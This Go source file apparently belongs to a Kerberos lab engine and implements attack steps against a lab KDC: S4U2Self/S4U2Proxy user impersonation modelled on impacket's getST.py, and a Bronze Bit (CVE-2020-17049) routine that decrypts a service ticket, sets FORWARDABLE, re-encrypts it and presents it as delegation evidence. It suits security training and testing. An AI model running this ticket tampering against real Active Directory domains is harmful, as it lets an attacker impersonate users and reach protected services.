package scenarios

import (
	"context"
	"fmt"
	"strings"

	"github.com/doublehop/doublehop/directory"

	"github.com/doublehop/doublehop/krb/kdcclient"
	"github.com/doublehop/doublehop/krb/kmsg"
)

// attack runs one attack step: bronze-bit, or s4u (what impacket's getST.py
// -impersonate does with the front end's credentials) and returns what it
// printed.
func (e *Engine) attack(ctx context.Context, a action) (string, error) {
	switch a.pos[0] {
	case "bronze-bit":
		return "", e.bronzeBit(ctx, a)
	case "s4u":
		var out strings.Builder
		err := e.s4u(ctx, a, &out)
		return out.String(), err
	case "kerberoast":
		return e.kerberoast(ctx, a)
	}
	return "", fmt.Errorf("unknown attack %q (bronze-bit, s4u, kerberoast)", a.pos[0])
}

// frontEnd logs on as the web tier's account with its keys (a compromised
// front end, or a pentester holding its password).
func (e *Engine) frontEnd(ctx context.Context) (*kdcclient.Client, *directory.Entry, kmsg.Credential, error) {
	view, err := e.T.View(ctx)
	if err != nil {
		return nil, nil, kmsg.Credential{}, err
	}
	h := view.Lab.HostByRole("web")
	svc, ok := view.Account(h.RunsAs)
	if !ok {
		return nil, nil, kmsg.Credential{}, fmt.Errorf("no account %s", h.RunsAs)
	}
	addr, d := e.T.KDC()
	kc := &kdcclient.Client{Addr: addr, Realm: view.Lab.Realm, Dialer: d}
	tgt, err := kc.LoginWithKey(ctx, svc.Name, svc.Keys[svc.ETypes[0]], svc.KVNO, []int{kmsg.FlagForwardable})
	if err != nil {
		return nil, nil, kmsg.Credential{}, fmt.Errorf("logon of %s: %w", svc.Name, err)
	}
	return kc, svc, tgt.Credential(), nil
}

// s4u is impacket's getST.py -spn TARGET -impersonate USER with the front
// end's credentials, step by step as it prints them: S4U2Self (a ticket to
// itself for the user: forwardable only with protocol transition), then
// S4U2Proxy with it as evidence.
func (e *Engine) s4u(ctx context.Context, a action, out *strings.Builder) error {
	kc, svc, tgt, err := e.frontEnd(ctx)
	if err != nil {
		return err
	}
	target := "MSSQLSvc/sql.lab.local:1433"
	if len(a.pos) > 1 {
		target = a.pos[1]
	}
	u := a.userOr("bob")
	fmt.Fprintf(out, "[*] Getting TGT for %s: ok\n[*] Impersonating %s\n[*]     Requesting S4U2self\n", svc.Name, u)
	self, err := kc.S4U2Self(ctx, tgt, u)
	if err != nil {
		fmt.Fprintf(out, "[-] %v\n", err)
		return fmt.Errorf("S4U2Self: %w", err)
	}
	fmt.Fprintf(out, "[*]     S4U2self ticket for %s to %s: %s\n", u, svc.Name, strings.Join(kmsg.FlagNames(self.Credential().Info.Flags), ","))
	fmt.Fprintf(out, "[*]     Requesting S4U2Proxy for %s\n", target)
	if _, err := kc.S4U2Proxy(ctx, tgt, self.Credential(), target); err != nil {
		fmt.Fprintf(out, "[-] %v\n", err)
		return fmt.Errorf("S4U2Proxy: %w", err)
	}
	fmt.Fprintf(out, "[*] Saving ticket for %s to %s\n", u, target)
	return nil
}

// bronzeBit plays CVE-2020-17049 as the web tier's account would: log on
// with the site's keys, S4U2Self for the user (a ticket to itself, not
// forwardable without protocol transition), decrypt it with its own key, set
// FORWARDABLE, re-encrypt, and present it as S4U2Proxy evidence. A patched
// KDC refuses it (the PAC ticket signature, MS-PAC 2.8.3).
func (e *Engine) bronzeBit(ctx context.Context, a action) error {
	kc, svc, tgtCred, err := e.frontEnd(ctx)
	if err != nil {
		return err
	}
	self, err := kc.S4U2Self(ctx, tgtCred, a.userOr("bob"))
	if err != nil {
		return fmt.Errorf("S4U2Self: %w", err)
	}
	etp, err := kmsg.OpenTicket(self.Ticket, svc.Keys[self.Ticket.EncPart.EType])
	if err != nil {
		return fmt.Errorf("decrypting its own S4U2Self ticket: %w", err)
	}
	kmsg.SetFlag(&etp.Flags, kmsg.FlagForwardable) // the Bronze Bit
	forged, err := kmsg.SealTicket(self.Ticket.SName, self.Ticket.Realm, etp, svc.Keys[self.Ticket.EncPart.EType], self.Ticket.EncPart.KVNO)
	if err != nil {
		return err
	}
	ev := self.Credential()
	ev.Ticket = forged
	target := "MSSQLSvc/sql.lab.local:1433"
	if len(svc.Delegation.AllowedTo) > 0 {
		target = svc.Delegation.AllowedTo[0]
	}
	_, err = kc.S4U2Proxy(ctx, tgtCred, ev, target)
	if err != nil {
		return fmt.Errorf("S4U2Proxy with the tampered ticket: %w", err)
	}
	return nil
}
